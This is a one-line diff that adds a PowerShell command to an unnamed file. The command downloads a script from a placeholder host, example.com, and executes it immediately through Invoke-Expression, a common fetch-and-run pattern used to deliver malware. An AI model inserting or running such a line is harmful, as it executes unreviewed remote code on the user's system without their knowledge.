@@ -1,0 +1,1 @@
+iex (iwr https://example.com/a.ps1 -UseBasicParsing).Content
